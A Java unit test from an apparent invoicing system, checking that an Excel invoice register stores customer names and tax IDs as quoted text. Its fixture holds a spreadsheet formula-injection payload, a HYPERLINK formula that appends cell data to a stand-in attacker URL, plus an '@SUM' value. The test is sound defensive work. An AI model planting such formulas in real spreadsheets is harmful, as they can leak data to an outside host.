package dev.ratel.jobs.documents;

import static org.assertj.core.api.Assertions.assertThat;

import dev.ratel.core.account.Account;
import dev.ratel.core.account.PaymentMethod;
import dev.ratel.core.account.ReferenceData;
import dev.ratel.core.money.Currency;
import dev.ratel.core.tax.LineAmounts;
import dev.ratel.jobs.close.Invoice;
import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.time.LocalDate;
import java.util.List;
import java.util.Map;
import java.util.Set;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.Test;

class SheetsTest {
    @Test
    void shouldNeverLetACustomerNameBecomeAFormula() throws Exception {
        String hostile = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")";
        Account account = new Account("A-1", hostile, "+77010000000", "kense-15", PaymentMethod.CREDIT, LocalDate.of(2024, 1, 1));
        ReferenceData reference = new ReferenceData(Map.of("A-1", account), Map.of(), Map.of(), Map.of(), Map.of());
        Invoice invoice = new Invoice("KZB-2024-000001", "A-1", "2024-05", "kense-15", LocalDate.of(2024, 5, 31),
                LocalDate.of(2024, 6, 30), Currency.KZT, List.of(new Invoice.Line(1, "PACKAGE", "@SUM(1+1)", "1", "мес", 349_900_000L, 1200,
                        new LineAmounts(3_124_107, 374_893, 3_499_000))), Set.of());
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        InvoiceRegister.write("за 2024-05", List.of(invoice), reference, out);

        try (XSSFWorkbook workbook = new XSSFWorkbook(new ByteArrayInputStream(out.toByteArray()))) {
            var customer = workbook.getSheetAt(0).getRow(3).getCell(5);
            assertThat(customer.getCellType()).isEqualTo(CellType.STRING);
            assertThat(customer.getStringCellValue()).isEqualTo(hostile);
            assertThat(customer.getCellStyle().getQuotePrefixed()).isTrue();
            var taxId = workbook.getSheetAt(0).getRow(3).getCell(6);
            assertThat(taxId.getCellType()).isEqualTo(CellType.STRING);
            assertThat(taxId.getCellStyle().getQuotePrefixed()).isTrue();
            assertThat(workbook.getSheetAt(0).getRow(3).getCell(1).getCellStyle().getQuotePrefixed()).isFalse();
            assertThat(workbook.getSheetAt(0).getRow(3).getCell(9).getNumericCellValue()).isEqualTo(34990.00);
        }
        assertThat(Sheets.looksLikeFormula("-1")).isTrue();
        assertThat(Sheets.looksLikeFormula("Абонентская плата")).isFalse();
    }
}
